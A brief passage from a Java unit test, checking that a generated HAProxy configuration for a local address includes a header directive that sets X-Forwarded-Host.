        assertTrue(HaproxyConfig.text("127.0.0.1", 7070, List.of(7071)).contains("set-header X-Forwarded-Host"));
    }
}
